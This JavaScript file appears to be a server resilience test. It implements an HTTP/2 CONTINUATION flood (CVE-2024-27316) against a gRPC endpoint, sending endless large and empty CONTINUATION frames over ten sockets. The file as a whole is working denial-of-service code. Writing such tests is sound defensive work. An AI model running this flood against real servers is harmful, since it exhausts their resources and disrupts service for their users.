import { defineAttack, MODEL_INFER } from '../../hostile-client.js';
import { FRAME, frame, headerBlock, PREFACE, requestHeaders, settings } from '../../http2-frames.js';

export const attack = defineAttack(import.meta.url, {
  does: 'ten connections begin a head and continue it without end, by large and by empty frames',
  bound: 'a head of HTTP/2 is bounded over all its frames (CVE-2024-27316)',
  port: 'grpc',
  async run(client) {
    const large = frame(FRAME.continuation, 0, 1, headerBlock([['x-a', 'b'.repeat(16_000)]]));
    const empty = Buffer.alloc(9 * 2000, frame(FRAME.continuation, 0, 1));
    const sockets = Array.from({ length: 10 }, () => client.socket());
    for (const socket of sockets) {
      socket.write(Buffer.concat([PREFACE, settings(), frame(FRAME.headers, 0, 1, requestHeaders(MODEL_INFER))]));
    }
    await client.repeat(20, () => {
      for (const [index, socket] of sockets.entries()) {
        if (socket.writable && socket.writableLength < 1e6) socket.write(index % 2 === 0 ? large : empty);
      }
    });
  },
});
